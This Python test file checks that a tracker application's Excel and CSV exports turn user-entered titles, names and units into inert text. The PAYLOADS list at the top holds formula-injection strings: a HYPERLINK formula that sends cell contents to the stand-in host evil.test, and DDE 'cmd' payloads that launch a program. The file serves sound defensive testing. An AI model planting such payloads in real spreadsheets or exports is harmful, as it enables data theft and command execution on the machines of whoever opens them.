"""Exports hold what people typed as text: no title, name or unit becomes a live formula in Excel
or in a spreadsheet opening the CSV (OWASP "CSV injection")."""

import csv
import io
import itertools
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from tracker.database import db
from tracker.exports import Sheet, csv_text
from tracker.exports.workbook import workbook_bytes
from tracker.models import Agency, Group, Period, Sector, User, WorkItem

OFFICE = "office@tracker.demo"
#: What OWASP lists as the start of a formula: =, +, -, @, tab and carriage return.
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _poison_everything() -> None:
    """Every text an export shows, written by a person: titles, names, units."""
    payloads = itertools.cycle(PAYLOADS)
    for model, column in (
        (WorkItem, "title"),
        (WorkItem, "target_unit"),
        (Agency, "name"),
        (Sector, "name"),
        (Group, "name"),
        (User, "name"),
    ):
        for row_id in db.session.scalars(select(model.id)).all():
            # Cut to the column's length: PostgreSQL refuses a longer text.
            values = {column: next(payloads)[: getattr(model, column).type.length]}
            db.session.execute(update(model).where(model.id == row_id).values(**values))
    _make_one_idle()
    db.session.commit()


def _make_one_idle() -> None:
    """The demo has no idle item: one open item loses its deadline and goes quiet in January."""
    open_items = WorkItem.status.not_in(["completed", "cancelled"])
    item = db.session.scalars(select(WorkItem).where(open_items).order_by(WorkItem.id)).first()
    item.deadline = item.original_deadline = None
    item.last_activity_on = item.assigned_on = date(2026, 1, 5)


def _close_and_publish(office) -> int:
    period = db.session.scalar(select(Period).filter_by(kind="quarter", year=2026, number=3))
    url = f"/reports/periods/{period.id}"
    assert office.post(f"{url}/close").status_code == 302
    assert office.post(f"{url}/publish").status_code == 302
    return period.id


def _export_paths(period_id: int) -> list[str]:
    return [
        "/office/overdue",
        "/office/idle",
        "/items/",
        "/items/?agency=syt",
        "/reports/agencies",
        "/reports/sectors",
        "/reports/pillars",
        "/reports/agencies/syt",
        "/reports/targets/",
        f"/reports/periods/{period_id}",
        f"/reports/periods/{period_id}?by=sector",
        f"/public/periods/{period_id}",
    ]


def _cells(data: bytes):
    """Every cell of every sheet: the table and the heading beside it."""
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        yield from (cell for row in sheet.iter_rows() for cell in row)


def _formulas_in_workbook(data: bytes) -> list[str]:
    return [cell.coordinate for cell in _cells(data) if cell.data_type == "f"]


def _texts_in_workbook(data: bytes) -> list[str]:
    return [cell.value for cell in _cells(data) if isinstance(cell.value, str)]


def _live_csv_fields(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [field for row in rows for field in row if field.startswith(DANGEROUS)]


def test_no_export_holds_a_formula(login, client):
    _poison_everything()
    office = login(OFFICE)
    period_id = _close_and_publish(office)
    for path in _export_paths(period_id):
        viewer = client if path.startswith("/public/") else office
        glue = "&" if "?" in path else "?"
        workbook = viewer.get(f"{path}{glue}format=xlsx")
        assert workbook.status_code == 200, path
        assert _formulas_in_workbook(workbook.data) == [], path
        # The payloads are in the sheet, as text: the test did poison what it exports.
        assert set(PAYLOADS) & set(_texts_in_workbook(workbook.data)), path
        table = viewer.get(f"{path}{glue}format=csv")
        assert table.status_code == 200, path
        assert _live_csv_fields(table.data) == [], path
        # Read as CSV: a payload with quotes is written with them doubled.
        fields = {field for line in csv.reader(io.StringIO(table.data.decode("utf-8-sig")))
                  for field in line}  # fmt: skip
        assert {"'" + payload for payload in PAYLOADS} & fields, path  # kept, made inert


def _sheet(*values) -> Sheet:
    return Sheet(
        title="=title",
        subtitle="@subtitle",
        issuer="+issuer",
        as_of=date(2026, 9, 30),
        headers=["No.", "-header"],
        rows=[list(values)],
    )


def test_csv_prefixes_text_and_keeps_numbers_and_dates(app):
    with app.test_request_context():
        rows = list(csv.reader(io.StringIO(csv_text(_sheet(-3, 2.5, date(2026, 1, 2), *PAYLOADS)))))
    assert rows[0] == ["No.", "'-header"]  # the title and subtitle are not in a plain table
    assert rows[-1] == ["-3", "2.5", "2026-01-02", *("'" + p for p in PAYLOADS)]


def test_workbook_writes_text_as_text_and_keeps_numbers(app):
    with app.test_request_context():
        data = workbook_bytes(_sheet(-3, 2.5, *PAYLOADS))
    book = load_workbook(io.BytesIO(data))
    sheet, about = book.worksheets
    assert _formulas_in_workbook(data) == []
    assert about["A1"].value == "+issuer" and about["A5"].value == "=TITLE"
    assert about["A6"].value == "@subtitle" and sheet["B1"].value == "-header"
    # Whether a carriage return survives depends on openpyxl's XML writer (lxml escapes it,
    # the standard library's writer folds it into "\n"): either way it is text, not a formula.
    last = [_fold_returns(cell.value) for cell in sheet[sheet.max_row]]
    assert last == [-3, 2.5, *(_fold_returns(p) for p in PAYLOADS)]


def _fold_returns(value):
    return value.replace("\r", "\n") if isinstance(value, str) else value


@pytest.mark.parametrize("text", ["Sở Y tế", "Kế hoạch 59/KH-UBND", "12,5 %", ""])
def test_ordinary_text_is_left_alone(app, text):
    with app.test_request_context():
        rows = list(csv.reader(io.StringIO(csv_text(_sheet(text)))))
    assert rows[-1] == [text]
